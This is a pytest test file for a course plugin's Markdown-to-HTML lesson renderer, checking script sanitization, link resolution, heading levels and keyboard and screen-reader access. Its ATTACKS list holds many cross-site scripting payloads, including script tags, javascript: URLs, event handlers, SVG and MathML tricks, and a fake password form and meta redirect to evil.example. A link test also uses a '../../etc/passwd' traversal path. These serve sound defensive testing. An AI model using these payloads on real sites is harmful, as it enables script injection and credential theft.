"""Lessons become HTML that runs nothing, leads where it says, and reads well without a mouse or a screen."""

import re
from html.parser import HTMLParser

import pytest

from plugins.courses.lesson_html import render_lesson
from plugins.courses.links import Place, resolve

pytestmark = pytest.mark.one_database

PLACE = Place.of("lessons/here.md", [("here", "lessons/here.md"), ("there", "lessons/there.md"), ("quiz", "")])
WORDS = (
    "a abbr b blockquote br code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark "
    "ol p pre s small span strong sub summary sup table tbody td th thead tr u ul"
)
HARMLESS = set(WORDS.split(" "))


def render(text: str) -> str:
    return render_lesson(text, PLACE, item_url="/s/T/courses/c", media_url="/s/T/m", words=("Table", "(new window)"))


class Parsed(HTMLParser):
    """Tags and attributes as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](../media/x.png)',
    '[x](https://e.example "a\\" onclick=\\"alert(1)")',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://e.example" target="_top" onclick="alert(1)" ping="//evil.example">x</a>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" srcset="//evil.example/x 1x">',
    "<img/src=x/onerror=alert(1)//",
    '<img src="../media/x.png" style="position:fixed;inset:0" onload=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<style>*{background:url(//evil.example)}</style>",
    '<link rel="stylesheet" href="//evil.example">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x">',
    '<form action="//evil.example"><input name="password" type="password"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button><isindex type=image src=1 onerror=alert(1)>',
    "<textarea autofocus onfocus=alert(1)></textarea><select onfocus=alert(1)></select>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example">',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p id="main" class="sr button" data-copy="x" hx-get="/s/T/grading" tabindex="5">x</p>',
    '<span class="sr notice">x</span>',
    '<h2 id="main" onclick="x">x</h2>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>\n\n## <script>alert(1)</script>",
    '<div role="alert" aria-label="&quot;><script>alert(1)</script>">x</div>',
    '<a href="/__item__/&quot;><script>alert(1)</script>">x</a>',
    '<a title="=&quot;/__item__/x&quot; onclick=&quot;alert(1)" href="there.md">x</a>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_lesson_carries_a_script(attack: str) -> None:
    parsed = Parsed(render(f"Before\n\n{attack}\n\nAfter"))

    assert parsed.comments == []
    for tag, attributes in parsed.tags:
        assert tag in HARMLESS, tag
        assert set(attributes) <= {
            *("href", "title", "target", "rel", "src", "alt", "loading", "class", "id", "role", "tabindex"),
            *("aria-label", "open"),
        }, attributes
        assert attributes.get("target") in (None, "_blank")
        assert (attributes.get("id") or "h-").startswith("h-")
        assert not {"button", "notice"} & set((attributes.get("class") or "").split())
        for name in ("href", "src"):
            address = attributes.get(name)
            assert address is None or re.match(r"https://e\.example|/s/T/(courses/c|m)/|#h-|mailto:", address), address


def test_what_surrounds_an_attack_is_still_there() -> None:
    html = render("Before\n\n<script>alert(1)</script>\n\nAfter")

    assert html == "<p>Before</p>\n\n<p>After</p>\n"


def test_code_keeps_its_signs() -> None:
    assert "<span" in render("```python\nif a < b and c > d: pass\n```")
    text = re.sub(r"<[^>]+>", "", render("```python\nif a < b and c > d: pass  # &amp;\n```"))
    assert text.strip() == "if a &lt; b and c &gt; d: pass  # &amp;amp;"
    assert "<code>a &lt; b</code>" in render("`a < b`")


def test_no_word_of_code_is_hidden_from_sight() -> None:
    """Pygments calls a regular expression `sr`, which is the page's class for what is heard only."""
    html = render("```javascript\nconst found = /a+b/.test(text)\n```")

    assert "/a+b/" in html
    assert 'class="sr"' not in html


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("there.md", "/s/T/courses/c/there"),
        ("./there.md", "/s/T/courses/c/there"),
        ("../lessons/there.md", "/s/T/courses/c/there"),
        ("lessons/there.md", "/s/T/courses/c/there"),
        ("there", "/s/T/courses/c/there"),
        ("quiz", "/s/T/courses/c/quiz"),
        ("there.md#How-much", "/s/T/courses/c/there#h-How-much"),
        ("#below", "#h-below"),
        ("../media/a.csv", "/s/T/m/a.csv"),
        ("media/a%20b/c.csv", "/s/T/m/a%20b/c.csv"),
        ("media/grün.csv", "/s/T/m/gr%C3%BCn.csv"),
        ("mailto:ada@example.org", "mailto:ada@example.org"),
        ("missing.md", None),
        ("../../etc/passwd", None),
        ("/grading/c/quiz", None),
        ("//example.org", None),
        ("http://[", None),
    ],
)
def test_a_link_leads_to_where_it_says(address: str, expected: str | None) -> None:
    ((_tag, attributes),) = [found for found in Parsed(render(f"[x](<{address}>)")).tags if found[0] == "a"]

    assert attributes == ({"href": expected} if expected else {})


def test_a_link_out_opens_a_window_of_its_own_and_says_so() -> None:
    html = render("[x](https://example.org/?a=1&b=2)")

    ((_tag, attributes),) = [found for found in Parsed(html).tags if found[0] == "a"]
    assert attributes == {"href": "https://example.org/?a=1&b=2", "target": "_blank", "rel": "noopener noreferrer"}
    assert '<span class="sr"> (new window)</span></a>' in html


def test_a_link_written_in_html_is_treated_alike() -> None:
    assert render('<p><a href="https://example.org">x</a></p>') == render("[x](https://example.org)").strip()


def test_a_picture_of_the_course_is_shown_and_no_other() -> None:
    ((_tag, attributes),) = [found for found in Parsed(render("![A](../media/a.png)")).tags if found[0] == "img"]

    assert attributes == {"src": "/s/T/m/a.png", "alt": "A", "loading": "lazy"}
    assert "src" not in render("![A](https://example.org/a.png)")


def test_columns_of_numbers_keep_their_side() -> None:
    html = render("| a | b | c |\n| --- | ---: | :---: |\n| 1 | 2 | 3 |")

    assert '<th class="end">b</th>' in html
    assert '<td class="end">2</td>' in html
    assert '<td class="middle">3</td>' in html
    assert "<td>1</td>" in html


def test_what_may_scroll_can_be_reached_by_keyboard() -> None:
    html = render("| a |\n| --- |\n| 1 |\n\n```\nx\n```\n\n    indented\n\n<pre>raw</pre>")

    assert '<div class="table" role="region" tabindex="0" aria-label="Table"><table>' in html
    assert html.count('<pre class="code" tabindex="0">') == 3


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# Title\n\n## A\n\n### B\n\n## C", ["h2", "h3", "h2"]),
        ("## A\n\n#### B\n\n###### C\n\n### D", ["h2", "h3", "h4", "h3"]),
        ("Text\n\n# A\n\n## B\n\n# C", ["h2", "h3", "h2"]),
        ("Title\n=====\n\n### A\n\n## B", ["h2", "h2"]),
        ("<h4>A</h4>\n\n<h1>B</h1>", ["h2", "h2"]),
    ],
)
def test_headings_begin_below_the_title_and_skip_no_level(text: str, levels: list[str]) -> None:
    html = render(text)

    assert [tag for tag, _attributes in Parsed(html).tags if re.fullmatch("h[1-6]", tag)] == levels
    assert re.findall(r"</(h\d)>", html) == levels


def test_headings_have_names_that_links_can_use() -> None:
    html = render("## How much?\n\n## How much?\n\n## `a_b` & Größe")

    assert re.findall(r'id="([^"]+)"', html) == ["h-how-much", "h-how-much-1", "h-a_b-größe"]


def test_every_session_gets_its_own_addresses() -> None:
    first = render_lesson("[x](there.md)", PLACE, item_url="/s/A/c", media_url="/s/A/m", words=("", ""))
    second = render_lesson("[x](there.md)", PLACE, item_url="/s/B/c", media_url="/s/B/m", words=("", ""))

    assert ('href="/s/A/c/there"' in first, 'href="/s/B/c/there"' in second) == (True, True)


def test_the_first_of_two_items_with_one_file_is_meant() -> None:
    place = Place.of("a.md", [("one", "b.md"), ("two", "b.md")])

    assert resolve("b.md", place).address == "/__item__/one"


@pytest.mark.parametrize("text", ["", "\n", "#", "<", "[" * 5000, ">" * 5000, "* " * 3000, "<div>" * 3000, "`" * 5000])
def test_odd_text_is_rendered_too(text: str) -> None:
    render(text)
